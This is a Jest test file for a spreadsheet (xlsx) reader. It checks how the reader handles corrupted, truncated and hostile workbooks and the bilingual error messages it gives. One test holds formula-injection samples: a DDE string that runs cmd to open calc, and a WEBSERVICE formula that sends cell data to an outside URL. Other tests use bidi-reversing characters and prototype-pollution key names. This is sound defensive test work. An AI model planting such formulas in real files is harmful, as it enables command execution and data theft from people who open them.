import { expect, test } from '@jest/globals';
import { CellKind } from '@silon/rules';
import { damageWords } from '../src/findings/damage-words.js';
import { hostileFiles, parts } from './hostile-files.js';
import { inlineRows, list, meta, readBook, readBytes, supporter, titles } from './read-file.js';
import { workbookParts, worksheet } from './workbook-parts.js';
import { zip } from './zip-writer.js';

const sound = zip(parts);
const row = inlineRows([titles]);
const memory = (): number => process.memoryUsage().rss / 1024 / 1024;

test.each(Object.entries(hostileFiles))('%s', async (_, { bytes, code, detail, limits }) => {
  const file = bytes();
  const before = memory();
  const { findings, read } = await readBytes(file, { limits });
  expect(memory() - before).toBeLessThan(100);
  expect(findings).toHaveLength(1);
  expect(findings[0]).toMatchObject({ code, severity: 'REJECT_FILE' });
  expect(findings[0]!.params.detail ?? '').toBe(detail);
  expect(read.length).toBeLessThan(3);
});

test('every cause has its own words in both languages', () => {
  for (const language of [0, 1]) {
    const said = Object.values(damageWords).map((words) => words[language]!);
    expect(new Set(said).size).toBe(said.length);
    expect(said.every((words) => words.length > 8)).toBe(true);
  }
});

test('a finding says in which sheet and behind which row, and how to mend it', async () => {
  const { findings } = await readBook(list([supporter(1)]), worksheet(`${row}<row r="7"/><row r="6"/>`));
  expect(findings[0]).toMatchObject({ place: { sheet: 2 }, params: { row: 7, detail: 'row-order' } });
  expect(findings[0]!.message.id).toBe(
    'Berkas rusak atau tidak dapat dibaca: nomor baris berulang atau mundur, di lembar ke-2 sesudah baris 7 (row-order). Buka di Excel atau LibreOffice, simpan ulang sebagai .xlsx, lalu unggah lagi.',
  );
  expect(findings[0]!.message.en).toContain('row numbers repeat or go back, in sheet 2 behind row 7 (row-order)');
});

test('X09 hidden and turning characters pass as they are, for the rules to see', async () => {
  const name = 'Lalu\u200b \u202eContoh\u2066';
  const { read } = await readBook(list([supporter(1).map((text, column) => (column === 4 ? name : text))]));
  expect(read[0]!.cells[4]).toBe(name);
});

test('X10 a dimension that lies costs nothing', async () => {
  const lie = worksheet(inlineRows([titles, supporter(1)]), '', '<dimension ref="A1:XFD1048576"/>');
  const { codes, rows } = await readBook(lie);
  expect([codes, rows]).toEqual([[], 1]);
});

test.each([
  'HYPERLINK("http://example.org","5201")',
  "cmd|'/c calc'!A0",
  'WEBSERVICE("http://example.org/"&A1)',
  '1+1',
])('X13 the formula %s is a formula, and what it last showed is not worked out again', async (formula) => {
  const escaped = formula.replaceAll('&', '&amp;');
  const cells = inlineRows([supporter(1)], 2).replace(
    /<c r="E2".*?<\/c>/,
    `<c r="E2" t="str"><f>${escaped}</f><v>kept</v></c>`,
  );
  const { read } = await readBook(worksheet(row + cells));
  expect([read[0]!.kinds[4], read[0]!.cells[4]]).toEqual([CellKind.formula, 'kept']);
});

test('X17 rows hidden by a filter, by no height, or as all are; columns of no width', async () => {
  const rows = inlineRows([titles, supporter(1), supporter(2), supporter(3)])
    .replace('<row r="2"', '<row r="2" hidden="true"')
    .replace('<row r="3"', '<row r="3" ht="0" customHeight="1"');
  const filtered = worksheet(rows, '<autoFilter ref="A1:N4"/>', '<cols><col min="4" max="4" width="0"/></cols>');
  expect((await readBook(filtered)).findings).toMatchObject([{ code: 'F027', params: { rows: 2, columns: 1 } }]);
  const none = worksheet(rows, '', '<sheetFormatPr defaultRowHeight="15" zeroHeight="1"/>');
  expect((await readBook(none)).findings).toMatchObject([{ code: 'F027', params: { rows: 3 } }]);
});

test('X18 what became of a NIK stays what it is: number, date, exponent, odd spaces and digits, apostrophe', async () => {
  const odd = ['5201 0105\u00a00785 9001', '\uff15\uff12\uff10\uff11', "'5201010507859001"];
  const nik = (column: string): string => inlineRows([supporter(1)], 2).replace(/<c r="D2".*?<\/c>/, column);
  const styles = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>';
  const kept = async (xml: string): Promise<unknown[]> => {
    const sheets = [{ name: 'A', xml: worksheet(row + nik(xml)) }, meta];
    const { read } = await readBytes(zip(workbookParts({ sheets, styles })));
    return [read[0]!.kinds[3], read[0]!.cells[3]];
  };
  expect(await kept('<c r="D2"><v>5201010507859000</v></c>')).toEqual([CellKind.number, '5201010507859000']);
  expect(await kept('<c r="D2"><v>5.20101050785901E+15</v></c>')).toEqual([CellKind.number, '5.20101050785901E+15']);
  expect(await kept('<c r="D2" s="1"><v>31233</v></c>')).toEqual([CellKind.date, '31233']);
  for (const text of odd)
    expect(await kept(`<c r="D2" t="inlineStr"><is><t>${text}</t></is></c>`)).toEqual([CellKind.text, text]);
});

test('X20 the names of an object are texts like all others', async () => {
  const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString'];
  const { read, codes } = await readBook({
    name: '__proto__',
    xml: list([supporter(1).map((text, at) => names[at - 4] ?? text)]),
  });
  expect([codes, read[0]!.cells.slice(4, 8)]).toEqual([[], names]);
  const header = [...names, ...titles.slice(4)];
  expect((await readBook(worksheet(inlineRows([header, supporter(1)])))).codes).toContain('F020');
  const odd = { ...meta, xml: worksheet(inlineRows(names.map((name) => [name, name]))) };
  const { findings } = await readBytes(zip(workbookParts({ sheets: [{ name: 'A', xml: list([supporter(1)]) }, odd] })));
  expect(findings).toMatchObject([{ code: 'F014', params: { detail: 'altered' } }]);
  expect(({} as Record<string, unknown>).templateId).toBeUndefined();
});

test('X12 an index without a string is an error in its cell, not in the file', async () => {
  const cells = supporter(1).map(
    (_, column) => `<c r="${String.fromCharCode(65 + column)}2" t="s"><v>${column === 4 ? 999 : 0}</v></c>`,
  );
  const xml = worksheet(`${row}<row r="2">${cells.join('')}</row>`);
  const { read, rows } = await readBytes(
    zip(workbookParts({ sheets: [{ name: 'A', xml }, meta], strings: '<si><t>a</t></si>' })),
  );
  expect(rows).toBe(1);
  expect(read[0]?.kinds[4]).toBe(5);
});

test('any byte of a sound file changed: a finding or the same rows, never a throw', async () => {
  const original = (await readBytes(sound)).read;
  for (let at = 0; at < sound.length; at += 7) {
    const broken = Buffer.from(sound);
    broken[at]! ^= 0x5a;
    const { findings, read } = await readBytes(broken);
    if (!findings.some(({ severity }) => severity === 'REJECT_FILE')) expect(read).toEqual(original);
  }
});

test('cut off at every length: always refused', async () => {
  for (let length = 0; length < sound.length; length += 13)
    expect((await readBytes(sound.subarray(0, length))).codes).toHaveLength(1);
});
